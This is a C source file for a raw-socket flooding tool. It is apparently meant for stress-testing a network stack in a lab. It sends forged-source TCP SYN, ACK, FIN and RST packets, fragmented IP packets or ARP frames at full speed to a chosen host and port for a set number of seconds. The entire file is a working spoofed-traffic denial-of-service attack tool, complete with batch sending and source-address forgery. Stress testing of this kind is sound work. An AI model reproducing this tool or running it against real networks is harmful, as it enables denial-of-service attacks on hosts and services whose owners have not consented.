/*
 * Sends frames with forged sources as fast as it can, for the laboratory alone:
 *
 *     flood KIND INTERFACE DESTINATION-MAC DESTINATION PORT SECONDS
 *
 * KIND: syn ack fin rst fragment arp. Sources are all of 10.77.0.128/25 and 172.16.0.0/12, which
 * nobody has; numbers and ports are from a generator. Prints the number of frames and of seconds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "stack/base.h"

#define BATCH     64
#define FRAME     128
#define L2        14
#define IP_HEADER 20

enum kind { SYN, ACK, FIN, RST, FRAGMENT, ARP, KINDS };
static const char *const kinds[KINDS] = {"syn", "ack", "fin", "rst", "fragment", "arp"};
static const uint8_t flags[KINDS] = {[SYN] = 0x02, [ACK] = 0x10, [FIN] = 0x11, [RST] = 0x04};

struct target {
    enum kind kind;
    uint8_t mac[6], own_mac[6];
    uint32_t addr; /* network order */
    uint16_t port;
};

static uint64_t state = 88172645463325252u;

static uint32_t chance(void)
{
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return (uint32_t)(state >> 16);
}

static uint32_t sum(const uint8_t *p, size_t n)
{
    uint32_t s = 0;
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    return s;
}

static unsigned folded(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return ~s & 0xffff;
}

/* Of the link's network now and then, so that ARP is asked, too; else from far away. */
static uint32_t forged(void)
{
    const uint32_t r = chance();
    return (r & 7) == 0 ? 0x0a4d0080 | (r >> 8 & 0x7f) : 0xac100000 | (r >> 8 & 0xfffff);
}

static size_t make_arp(uint8_t *f, const struct target *t)
{
    static const uint8_t head[] = {8, 6, 0, 1, 8, 0, 6, 4, 0};
    memcpy(f + 12, head, sizeof(head));
    f[21] = (uint8_t)(1 + (chance() & 1));
    memcpy(f + 22, t->own_mac, 6);
    put_be32(f + 28, 0x0a4d0080 | (chance() & 0x7f));
    memcpy(f + 32, t->mac, 6);
    memcpy(f + 38, &t->addr, 4);
    return 42;
}

static size_t make(uint8_t *f, const struct target *t)
{
    memcpy(f, t->mac, 6);
    memcpy(f + 6, t->own_mac, 6);
    if (t->kind == ARP)
        return make_arp(f, t);
    uint8_t *ip = f + L2, *tcp = ip + IP_HEADER;
    const size_t l4 = t->kind == SYN ? 24 : t->kind == FRAGMENT ? 48 : 20;
    memset(ip, 0, IP_HEADER + l4);
    put_be16(f + 12, 0x0800);
    ip[0] = 0x45;
    put_be16(ip + 2, (unsigned)(IP_HEADER + l4));
    put_be16(ip + 4, chance() & 0xffff);
    if (t->kind == FRAGMENT) /* first ones and later ones, never a whole */
        put_be16(ip + 6, 0x2000 | (chance() & 3 ? chance() % 180 * 6 : 0));
    ip[8] = 64;
    ip[9] = 6;
    put_be32(ip + 12, forged());
    memcpy(ip + 16, &t->addr, 4);
    put_be16(ip + 10, folded(sum(ip, IP_HEADER)));
    put_be16(tcp, 1024 + chance() % 60000);
    put_be16(tcp + 2, t->port);
    put_be32(tcp + 4, chance());
    put_be32(tcp + 8, t->kind == SYN ? 0 : chance());
    tcp[12] = t->kind == SYN ? 6 << 4 : 5 << 4;
    tcp[13] = flags[t->kind];
    put_be16(tcp + 14, 65535);
    if (t->kind == SYN)
        put_be32(tcp + 20, 0x020405b4);
    put_be16(tcp + 16, folded(sum(ip + 12, 8) + 6 + (uint32_t)l4 + sum(tcp, l4)));
    return L2 + IP_HEADER + l4;
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t flood(int fd, const struct target *t, double seconds)
{
    static uint8_t frames[BATCH][FRAME];
    struct mmsghdr messages[BATCH] = {0};
    struct iovec parts[BATCH];
    uint64_t sent = 0;
    const double end = now() + seconds;
    while (now() < end) {
        for (unsigned i = 0; i < BATCH; i++) {
            parts[i] = (struct iovec){frames[i], make(frames[i], t)};
            messages[i].msg_hdr = (struct msghdr){.msg_iov = &parts[i], .msg_iovlen = 1};
        }
        const int n = sendmmsg(fd, messages, BATCH, 0);
        if (n > 0)
            sent += (uint64_t)n;
        else if (errno != ENOBUFS && errno != EAGAIN)
            return sent;
    }
    return sent;
}

int main(int argc, char **argv)
{
    struct target t = {.kind = KINDS};
    if (argc == 7)
        for (unsigned i = 0; i < KINDS; i++)
            if (strcmp(argv[1], kinds[i]) == 0)
                t.kind = (enum kind)i;
    if (t.kind == KINDS || inet_pton(AF_INET, argv[4], &t.addr) != 1 ||
        sscanf(argv[3], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &t.mac[0], &t.mac[1], &t.mac[2], &t.mac[3],
               &t.mac[4], &t.mac[5]) != 6) {
        fprintf(stderr, "flood KIND INTERFACE DESTINATION-MAC DESTINATION PORT SECONDS\n");
        return 2;
    }
    t.port = (uint16_t)strtoul(argv[5], NULL, 10);
    const int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
    struct ifreq ifr = {0};
    snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[2]);
    if (fd < 0 || ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) {
        perror(argv[2]);
        return 1;
    }
    memcpy(t.own_mac, ifr.ifr_hwaddr.sa_data, 6);
    const struct sockaddr_ll at = {.sll_family = AF_PACKET,
                                   .sll_ifindex = (int)if_nametoindex(argv[2])};
    if (bind(fd, (const struct sockaddr *)&at, sizeof(at)) < 0) {
        perror("bind");
        return 1;
    }
    const double begin = now();
    const uint64_t sent = flood(fd, &t, strtod(argv[6], NULL));
    printf("%llu %.3f\n", (unsigned long long)sent, now() - begin);
    return sent == 0;
}
